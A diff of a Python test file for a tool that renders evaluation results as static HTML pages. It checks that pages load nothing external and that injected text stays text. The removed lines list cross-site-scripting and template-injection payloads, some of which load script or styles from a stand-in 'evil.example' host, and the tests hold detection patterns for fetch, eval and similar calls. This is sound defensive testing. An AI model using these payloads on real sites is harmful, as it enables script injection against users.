@@ -1,11 +1,6 @@
 """``render`` on hand-made records; its pages are read back by ``html.parser``."""
 
-import base64
-import hashlib
 import re
-from collections.abc import Iterator
-from dataclasses import dataclass, field
-from html.parser import HTMLParser
 from pathlib import PurePosixPath
 from typing import Any
 
@@ -13,6 +8,22 @@ import msgspec
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
+from payloads import FEW
+from site_checks import (
+    HREF,
+    PART,
+    Node,
+    Trees,
+    entries,
+    harmless,
+    html,
+    parsed,
+    self_contained,
+    shown,
+    skeleton,
+    target,
+    well_made,
+)
 
 from mai_harness.__main__ import _board
 from mai_harness.challenge import with_scores
@@ -40,95 +51,11 @@ from mai_harness.records import (
     TensorFact,
     Tried,
 )
-from mai_harness.render import COLUMNS, MISSING, board_columns, number, ranked, render
+from mai_harness.render import COLUMNS, MISSING, Pages, assets, board_columns, number, render
+from mai_harness.render.board import board as ordered
 
 INDEX = PurePosixPath("index.html")
 FAILURES = PurePosixPath("failure-modes.html")
-HREF = r"(data:,|(\.\./)?(entries/)?[A-Za-z0-9._-]+\.html)?(#[a-z][a-z0-9-]*)?"
-VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "track", "wbr"}
-BLOCKS = {"article", "div", "dl", "figure", "footer", "h1", "h2", "h3", "h4", "header", "main", "ol", "p", "pre",
-          "section", "table", "ul"}  # fmt: skip
-
-
-# Pages, read back
-
-
-@dataclass
-class Node:
-    """An element; ``children`` are elements and strings in order."""
-
-    tag: str
-    attributes: dict[str, str]
-    children: list["Node | str"] = field(default_factory=list)
-
-    @property
-    def text(self) -> str:
-        return "".join(child if isinstance(child, str) else child.text for child in self.children)
-
-    @property
-    def classes(self) -> set[str]:
-        return set(self.attributes.get("class", "").split())
-
-    def walk(self) -> Iterator["Node"]:
-        yield self
-        for child in self.children:
-            if isinstance(child, Node):
-                yield from child.walk()
-
-    def all(self, tag: str, class_: str | None = None) -> list["Node"]:
-        return [n for n in self.walk() if n.tag == tag and (class_ is None or class_ in n.classes)]
-
-    def one(self, tag: str, class_: str | None = None) -> "Node":
-        (found,) = self.all(tag, class_)
-        return found
-
-    def section(self, heading: str) -> "Node":
-        (found,) = (n for n in self.all("section") if n.attributes.get("aria-labelledby") == heading)
-        return found
-
-
-class Reader(HTMLParser):
-    """Builds the tree, and refuses a tag that is not closed where it should be, or an attribute given twice."""
-
-    def __init__(self) -> None:
-        super().__init__(convert_charrefs=True)
-        self.root = Node("", {})
-        self._open = [self.root]
-
-    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        assert len({name for name, _ in attrs}) == len(attrs), f"<{tag}> has an attribute twice"
-        assert tag not in BLOCKS or "p" not in [node.tag for node in self._open], (
-            f"<{tag}> ends the paragraph around it"
-        )
-        node = Node(tag, {name: value or "" for name, value in attrs})
-        self._open[-1].children.append(node)
-        if tag not in VOID:
-            self._open.append(node)
-
-    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        assert "svg" in [node.tag for node in self._open], f"<{tag}/> outside SVG stays open"
-        self._open[-1].children.append(Node(tag, {name: value or "" for name, value in attrs}))
-
-    def handle_endtag(self, tag: str) -> None:
-        assert self._open[-1].tag == tag, f"</{tag}> where <{self._open[-1].tag}> is open"
-        self._open.pop()
-
-    def handle_data(self, data: str) -> None:
-        self._open[-1].children.append(data)
-
-    def handle_comment(self, data: str) -> None:
-        raise AssertionError(f"a comment: {data}")
-
-    def close(self) -> None:
-        super().close()
-        assert [node.tag for node in self._open] == [""], "elements stay open"
-
-
-def parsed(page: str) -> Node:
-    reader = Reader()
-    reader.feed(page)
-    reader.close()
-    return reader.root
 
 
 # Records
@@ -209,7 +136,7 @@ def index(*evaluations: Evaluation, **changes: Any) -> Node:
 
 
 def page_of(evaluation: Evaluation) -> Node:
-    (page,) = (page for path, page in render(results(evaluation)).items() if path.parts[0] == "entries")
+    (page,) = entries(render(results(evaluation))).values()
     return parsed(page)
 
 
@@ -272,78 +199,49 @@ EVERYTHING = (
 
 
 @pytest.fixture(scope="module")
-def site() -> dict[PurePosixPath, Node]:
-    return {path: parsed(page) for path, page in render(results(*EVERYTHING)).items()}
+def site() -> Trees:
+    return well_made(render(results(*EVERYTHING)))
 
 
 def test_there_are_a_front_page_failure_modes_and_one_page_an_entry(site):
     assert {INDEX, FAILURES} < set(site)
-    assert len(site) == 2 + len(EVERYTHING)
-    assert {path.parts[0] for path in set(site) - {INDEX, FAILURES}} == {"entries"}
-    titles = {page.one("head").one("title").text for page in site.values()}
-    assert "" not in titles
-    assert {len(page.all("h1")) for page in site.values()} == {len(page.all("main")) for page in site.values()} == {1}
+    assert len([path for path in site if path.parts[0] == "entries"]) == len(EVERYTHING)
+    headings = [page.one("h1").text for path, page in site.items() if path.parts[0] == "entries"]
+    assert sorted(headings) == sorted(evaluation.title for evaluation in EVERYTHING)
 
 
-def test_every_page_declares_what_it_is():
-    for page in render(results(*EVERYTHING)).values():
-        assert page.startswith("<!doctype html>\n")
-        assert '<html lang="en">' in page
-        assert '<meta charset="utf-8">' in page
+def test_every_page_can_be_reached_from_the_front_page(site):
+    reached, waiting = set(), [INDEX]
+    while waiting:
+        path = waiting.pop()
+        if path in reached:
+            continue
+        reached.add(path)
+        links = [node.attributes.get("href", "data:,") for node in site[path].all("a")]
+        waiting += [there for link in links if (there := target(path, link)[0]) in site]
+    assert reached == set(site)
 
 
-def test_ids_are_unique_and_all_that_is_pointed_at_exists(site):
-    for path, page in site.items():
-        ids = [node.attributes["id"] for node in page.walk() if "id" in node.attributes]
-        assert len(set(ids)) == len(ids), path
-        for node in page.walk():
-            assert set(node.attributes.get("aria-labelledby", "").split()) <= set(ids), (path, node.attributes)
+def test_nothing_is_loaded_from_anywhere_and_no_script_stands_in_a_page(site):
+    self_contained(site)
 
 
-def test_links_lead_to_pages_and_places_that_exist(site):
-    seen = set()
-    for path, page in site.items():
-        for node in page.walk():
-            target, _, place = node.attributes.get("href", "data:,").partition("#")
-            if target == "data:,":
-                continue
-            parts = [*path.parent.parts, *PurePosixPath(target).parts] if target else list(path.parts)
-            there = PurePosixPath(*(parts[2:] if ".." in parts else parts))
-            assert there in site, (path, node.attributes)
-            seen.add(there)
-            if place:
-                assert [n for n in site[there].walk() if n.attributes.get("id") == place], (path, node.attributes)
-    assert seen == set(site)
+def test_all_files_have_plain_paths(site):
+    for path in render(results(*EVERYTHING)):
+        assert all(re.fullmatch(PART, part) for part in path.parts), path
 
 
-def test_nothing_is_loaded_from_anywhere(site):
-    for path, page in site.items():
-        for node in page.walk():
-            assert node.tag not in {"iframe", "object", "embed", "base", "form", "video", "audio", "use"}
-            assert node.tag != "link" or node.attributes["href"] == "data:,"
-            for name, value in node.attributes.items():
-                if (node.tag, name) == ("img", "src"):
-                    assert re.fullmatch(r"data:image/webp;base64,[A-Za-z0-9+/]+=*", value), (path, value)
-                elif name in {"href", "src", "srcset", "xlink:href", "action", "poster", "data", "cite", "ping"}:
-                    assert re.fullmatch(HREF, value), (path, value)
-                assert not name.startswith("on"), (path, name)
-        for style in page.all("style"):
-            assert not re.search(r"url\(|@import|@font-face|//", style.text)
-        assert not re.search(r"fetch|XMLHttpRequest|import|//|eval|innerHTML", page.one("script").text)
+OWN = {path: file.read_text() for path, file in assets().items() if "vendor" not in path.parts}
 
 
-def test_the_policy_allows_the_script_and_nothing_else(site):
-    for page in site.values():
-        (policy,) = (m.attributes["content"] for m in page.all("meta") if "http-equiv" in m.attributes)
-        rules = dict(rule.strip().split(" ", 1) for rule in policy.split(";"))
-        script = page.one("script")
-        assert script.attributes == {}
-        digest = base64.b64encode(hashlib.sha256(script.text.encode()).digest()).decode()
-        assert script.text.strip()
-        assert rules["script-src"] == f"'sha256-{digest}'"
-        assert rules["default-src"] == "'none'"
-        assert rules["base-uri"] == rules["form-action"] == "'none'"
-        assert page.all("head")[0].children[3] is next(m for m in page.all("meta") if "http-equiv" in m.attributes)
+@pytest.mark.parametrize("path", [path for path in OWN if path.suffix in {".js", ".css"}], ids=str)
+def test_our_scripts_and_styles_ask_for_nothing_and_write_no_markup(path):
+    text = OWN[path].replace("http://www.w3.org/2000/svg", "")
+    assert not re.search(r"https?:|[\"'`(]//|@import|@font-face", text)
+    if path.suffix == ".js":
+        made = r"\b(fetch|eval|import|Function|XMLHttpRequest|WebSocket|EventSource|sendBeacon)\s*\("
+        assert not re.search(rf"{made}|(inner|outer)HTML|insertAdjacentHTML|document\.write|srcdoc|\.html\(", text)
+        assert text.startswith('"use strict";')
 
 
 def test_the_same_results_give_the_same_pages():
@@ -359,105 +257,42 @@ def test_of_no_results_a_page_is_made():
 
 # Injection
 
-PAYLOADS = [
-    "<script>alert(1)</script>",
-    "</script><script>alert(1)</script>",
-    "</title><script>alert(1)</script>",
-    "</style><script>alert(1)</script>",
-    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
-    "<img src=x onerror=alert(1)>",
-    "<svg onload=alert(1)>",
-    "<svg/onload=alert(1)//",
-    "</svg><script>alert(1)</script>",
-    "<math><mtext></mtext><style><img src onerror=alert(1)>",
-    '" onmouseover="alert(1)',
-    "' onmouseover='alert(1)",
-    '"><script>alert(1)</script>',
-    "'><script>alert(1)</script>",
-    '" style="background:url(//evil.example)',
-    "x onfocus=alert(1) autofocus",
-    "<a href=javascript:alert(1)>x</a>",
-    "javascript:alert(1)",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<meta http-equiv=refresh content='0;url=//evil.example'>",
-    "<base href=//evil.example/>",
-    "<link rel=stylesheet href=//evil.example/x.css>",
-    "<!-- <script>alert(1)</script> -->",
-    "--><script>alert(1)</script>",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#60;script&#62;alert(1)",
-    "</td></tr></table><script>alert(1)</script>",
-    "</p></dd></details><b>bold</b>",
-    "</pre><h1>Winner</h1>",
-    "{{ 7 * 7 }}{% raw %}",
-    "{% include 'base.html' %}",
-    "\x00<script\x00>alert(1)</script>",
-    "<\u202escript>alert(1)",
-    "\ud800<script>alert(1)</script>\udfff",
-    "line\r\n<script>\r\nalert(1)",
-    "https://evil.example/?a=1&b=<2>",
-    "\N{FULLWIDTH LESS-THAN SIGN}script\N{FULLWIDTH GREATER-THAN SIGN}alert(1)",
-    "`${alert(1)}`",
-    "<" * 200,
-    "\"'&<>" * 60,
-]  # fmt: skip
 
-
-def skeleton(page: Node) -> list[Any]:
-    """Every tag with its attributes, but for those that bear words, and the targets and places that bear names."""
-    words = {"title", "datetime", "aria-label", "alt"}
-    for node in page.walk():
-        for name in ("id", "aria-labelledby"):
-            assert re.fullmatch(r"[a-z0-9 -]*", node.attributes.get(name, "")), node.attributes
-    return [
-        (node.tag, {n: v for n, v in node.attributes.items() if n not in words | {"href", "id", "aria-labelledby"}})
-        for node in page.walk()
-    ]
-
-
-def harmless(payload: str) -> str:
-    """As long, and of lines as many, so that what depends on length is the same."""
-    return re.sub(r"[^\r\n]", "w", payload)
-
-
-def everywhere(words: str) -> list[tuple[PurePosixPath, str]]:
+def everywhere(words: str) -> list[Pages]:
     """A board where all is known, and one where nothing is: the front page then tells other things."""
     about = {"machine": words, "dataset": words, "harness_version": words, "created": words, "versions": {words: words}}
     full = results(complete("abpn", words), complete(words, words, 29.0), stopped("broken", words), **about)
     empty = results(entry("bare", title=words), **about)
-    return [*render(full).items(), *render(empty).items()]
+    return [render(full), render(empty)]
 
 
-@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
+@pytest.mark.parametrize("payload", FEW, ids=range(len(FEW)))
 def test_no_text_becomes_anything_but_text(payload):
     """The same elements and attributes stand on the page whatever the words are."""
-    pages, plain = everywhere(payload), everywhere(harmless(payload))
-    for (path, page), (_, reference) in zip(pages, plain, strict=True):
-        assert re.fullmatch(r"index\.html|failure-modes\.html|entries/[A-Za-z0-9._-]+\.html", str(path))
-        page.encode()
-        tree = parsed(page)
-        assert skeleton(tree) == skeleton(parsed(reference)), path
-        for node in tree.walk():
-            assert re.fullmatch(HREF, node.attributes.get("href", ""))
+    for pages, plain in zip(everywhere(payload), everywhere(harmless(payload)), strict=True):
+        for (path, page), reference in zip(html(pages).items(), html(plain).values(), strict=True):
+            page.encode()
+            tree = parsed(page)
+            assert skeleton(tree) == skeleton(parsed(reference)), path
+            assert all(re.fullmatch(r"[a-z0-9-]+", id_) for id_ in tree.ids)
+            assert all(re.fullmatch(HREF, node.attributes.get("href", "")) for node in tree.walk())
+        for path in pages:
+            assert all(re.fullmatch(PART, part) for part in path.parts), path
 
 
-@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
+@pytest.mark.parametrize("payload", FEW, ids=range(len(FEW)))
 def test_every_text_stays_readable(payload):
     """What was written is shown, but for characters that a page may not hold."""
-    shown = re.sub(r"[\x00-\x08\x0e-\x1f\u202a-\u202e\ud800-\udfff]", "\N{REPLACEMENT CHARACTER}", payload)
-    shown = shown.replace("\r\n", "\n")
+    words = shown(payload).replace("\r\n", "\n")
     page = render(results(complete("abpn", payload)))[PurePosixPath("entries", "abpn.html")].replace("\r\n", "\n")
     tree = parsed(page)
-    assert tree.one("h1").text == shown
-    assert tree.one("p", "description").text == shown
-    assert tree.section("findings").all("dd")[0].text == shown
-    assert shown in tree.one("title").text
-    assert shown in tree.section("images").one("tbody").all("th")[0].text
-    reason = parsed(
-        render(results(stopped("broken", payload)))[PurePosixPath("entries", "broken.html")].replace("\r\n", "\n")
-    )
-    assert reason.one("pre").text == shown
+    assert tree.one("h1").text == words
+    assert tree.one("p", "description").text == words
+    assert tree.section("findings").all("dd")[0].text == words
+    assert words in tree.one("head").one("title").text
+    assert words in tree.section("images").one("tbody").all("th")[0].text
+    stopped_ = render(results(stopped("broken", payload)))[PurePosixPath("entries", "broken.html")]
+    assert parsed(stopped_.replace("\r\n", "\n")).one("pre").text == words
 
 
 # Ranking
@@ -488,9 +323,9 @@ def test_more_digits_than_are_shown_still_rank():
 def test_ranking_follows_raw_bytes_not_dequantised_values():
     clipped = entry("a", 29.0, 50.0)
     unclipped = entry("b", ms=50.0, score=score(21.0, psnr_dequantised_db=31.0, psnr_fp32_db=31.0))
-    finished, stopped_ = ranked(results(unclipped, clipped))
-    assert [e.name for e in finished] == ["a", "b"]
-    assert stopped_ == []
+    found = ordered(results(unclipped, clipped))
+    assert [row.evaluation.name for row in found.ranked] == ["a", "b"]
+    assert found.disqualified == found.failed == []
 
 
 def test_a_failed_entry_that_was_scored_is_not_ranked():
@@ -670,7 +505,7 @@ def test_columns_of_further_backends_stand_behind_the_runtimes():
     place = ids.index("runtime_fp32")
     (npu, cpu) = ids[place + 1 : place + 3]
     assert [*ids[: place + 1], *ids[place + 3 :]] == [column.id for column in COLUMNS]
-    assert re.fullmatch(r"runtime_on_npu-x-1-[0-9a-f]{8}", npu)  # it is a class of the page, too
+    assert re.fullmatch(r"runtime_on_npu-x-1-[0-9a-f]{12}", npu)  # it is a class of the page, too
     assert cpu == "runtime_on_cpu"
     page = index(both)
     assert [cell(page, 0, npu).text, cell(page, 0, "runtime_int8").text] == ["40.0", "50.0"]
@@ -846,7 +681,7 @@ NAMES = st.lists(
 @given(names=NAMES)
 def test_every_name_gets_a_page_of_its_own(names):
     pages = render(results(*(entry(name, 30.0) for name in names)))
-    paths = [path for path in pages if path.parts[0] == "entries"]
+    paths = list(entries(pages))
     assert len({str(path).casefold() for path in paths}) == len(names)
     for path in paths:
         assert re.fullmatch(r"entries/[A-Za-z0-9._-]+\.html", str(path))
@@ -857,17 +692,17 @@ def test_every_name_gets_a_page_of_its_own(names):
 
 
 def test_plain_names_are_kept():
-    assert {str(path) for path in render(results(entry("abpn_v2.1-x"), failed("other")))} == {
-        "index.html", "failure-modes.html", "entries/abpn_v2.1-x.html", "entries/other.html",
+    assert {str(path) for path in entries(render(results(entry("abpn_v2.1-x"), failed("other"))))} == {
+        "entries/abpn_v2.1-x.html", "entries/other.html",
     }  # fmt: skip
 
 
 def test_names_that_a_file_system_confuses_get_different_pages():
-    paths = {str(path).casefold() for path in render(results(entry("ABPN", 30.0), entry("abpn", 30.0)))}
-    assert len(paths) == 4
+    pages = render(results(entry("ABPN", 30.0), entry("abpn", 30.0)))
+    assert len({str(path).casefold() for path in entries(pages)}) == 2
 
 
 def test_a_name_may_look_like_the_page_of_another():
     """``a b`` is hashed; an entry may be called what it is hashed to."""
-    (taken,) = (path.stem for path in render(results(entry("a b"))) if path.parts[0] == "entries")
-    assert len(render(results(entry("a b"), entry(taken)))) == 4
+    (taken,) = (path.stem for path in entries(render(results(entry("a b")))))
+    assert len(entries(render(results(entry("a b"), entry(taken))))) == 2
